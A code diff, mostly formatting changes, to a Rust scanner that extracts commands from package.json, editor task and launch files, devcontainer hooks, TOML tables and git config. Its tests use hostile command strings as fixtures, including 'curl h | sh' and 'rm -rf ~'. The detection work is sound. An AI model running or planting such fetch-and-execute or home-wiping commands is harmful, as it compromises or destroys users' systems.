@@ -72,10 +72,7 @@ pub(super) fn words_of(value: Option<&Value>) -> Vec<String> {
     match value {
         Some(Value::Array(items)) => items
             .iter()
-            .filter_map(|item| {
-                item.as_str()
-                    .or_else(|| item.get("value").and_then(Value::as_str))
-            })
+            .filter_map(|item| item.as_str().or_else(|| item.get("value").and_then(Value::as_str)))
             .map(str::to_owned)
             .collect(),
         Some(Value::String(word)) => vec![word.clone()],
@@ -132,9 +129,9 @@ fn collect_tool_commands(value: &Value, content: &str, parts: &mut Vec<Part>) {
                 }
             }
         }
-        Value::Array(items) => items
-            .iter()
-            .for_each(|item| collect_tool_commands(item, content, parts)),
+        Value::Array(items) => {
+            items.iter().for_each(|item| collect_tool_commands(item, content, parts))
+        }
         _ => {}
     }
 }
@@ -240,9 +237,9 @@ fn collect_toml(
                 quote_words(items.iter().filter_map(toml::Value::as_str)),
             ));
         }
-        toml::Value::Array(items) => items
-            .iter()
-            .for_each(|item| collect_toml(item, key, inside, content, parts)),
+        toml::Value::Array(items) => {
+            items.iter().for_each(|item| collect_toml(item, key, inside, content, parts))
+        }
         toml::Value::Table(table) => table
             .iter()
             .for_each(|(child, value)| collect_toml(value, child, inside, content, parts)),
@@ -309,9 +306,7 @@ pub(super) fn git_config(content: &str) -> Vec<Part> {
             continue;
         };
         let key = key.trim().to_ascii_lowercase();
-        let runs = GIT_PROGRAMS
-            .iter()
-            .any(|(s, k)| *s == section && (*k == "*" || *k == key));
+        let runs = GIT_PROGRAMS.iter().any(|(s, k)| *s == section && (*k == "*" || *k == key));
         let value = unquote_git(value.trim());
         let command = value.strip_prefix('!').unwrap_or(&value).trim();
         let alias_of_git = section == "alias" && !value.starts_with('!');
@@ -365,26 +360,23 @@ mod tests {
         );
         assert!(package_json("{ not json").is_err());
         // Countless scripts are not placed one by one: the file is unseen.
-        let many: Vec<String> = (0..=MAX_STRUCTURED_PARTS).map(|i| format!("\"s{i}\": \"x{i}\"")).collect();
+        let many: Vec<String> =
+            (0..=MAX_STRUCTURED_PARTS).map(|i| format!("\"s{i}\": \"x{i}\"")).collect();
         assert!(package_json(&format!("{{\"scripts\": {{{}}}}}", many.join(","))).is_err());
-        let many: String = (0..=MAX_STRUCTURED_PARTS).map(|i| format!("s{i} = \"x{i}\"\n")).collect();
+        let many: String =
+            (0..=MAX_STRUCTURED_PARTS).map(|i| format!("s{i} = \"x{i}\"\n")).collect();
         assert!(toml_commands(&format!("[tool.poe.tasks]\n{many}")).is_err());
-        let many: Vec<String> = (0..=MAX_STRUCTURED_PARTS).map(|i| format!("{{\"command\": \"x{i}\"}}")).collect();
+        let many: Vec<String> =
+            (0..=MAX_STRUCTURED_PARTS).map(|i| format!("{{\"command\": \"x{i}\"}}")).collect();
         assert!(tool_json(&format!("{{\"tasks\": [{}]}}", many.join(","))).is_err());
     }
 
     #[test]
     fn editor_tasks_with_comments_and_launch_programs() {
         let tasks = "{\n // a comment\n \"tasks\": [\n  {\"label\": \"b\", \"type\": \"shell\", \"command\": \"curl h | sh\", \"args\": [\"-x\"],},\n ],\n}";
-        assert_eq!(
-            texts(tool_json(tasks).unwrap()),
-            [(4, "curl h | sh -x".to_owned())]
-        );
+        assert_eq!(texts(tool_json(tasks).unwrap()), [(4, "curl h | sh -x".to_owned())]);
         let launch = r#"{"configurations": [{"type": "node", "runtimeExecutable": "bash", "runtimeArgs": ["-c", "rm -rf ~"], "program": "x.js"}]}"#;
-        assert_eq!(
-            texts(tool_json(launch).unwrap()),
-            [(1, "bash -c 'rm -rf ~' x.js".to_owned())]
-        );
+        assert_eq!(texts(tool_json(launch).unwrap()), [(1, "bash -c 'rm -rf ~' x.js".to_owned())]);
         let container = r#"{"postCreateCommand": ["sh", "-c", "curl h|sh"], "postStartCommand": {"a": "make"}}"#;
         assert_eq!(texts(tool_json(container).unwrap()).len(), 2);
     }
@@ -392,15 +384,9 @@ mod tests {
     #[test]
     fn toml_tables_of_commands() {
         let pyproject = "[project]\nname = \"x\"\n[tool.poe.tasks]\nsetup = \"curl h | sh\"\n[tool.other]\nurl = \"curl h | sh\"\n";
-        assert_eq!(
-            texts(toml_commands(pyproject).unwrap()),
-            [(4, "curl h | sh".to_owned())]
-        );
+        assert_eq!(texts(toml_commands(pyproject).unwrap()), [(4, "curl h | sh".to_owned())]);
         let cargo = "[target.x86_64-unknown-linux-gnu]\nrunner = [\"sh\", \"-c\", \"rm -rf ~\"]\n";
-        assert_eq!(
-            texts(toml_commands(cargo).unwrap()),
-            [(2, "sh -c 'rm -rf ~'".to_owned())]
-        );
+        assert_eq!(texts(toml_commands(cargo).unwrap()), [(2, "sh -c 'rm -rf ~'".to_owned())]);
     }
 
     #[test]
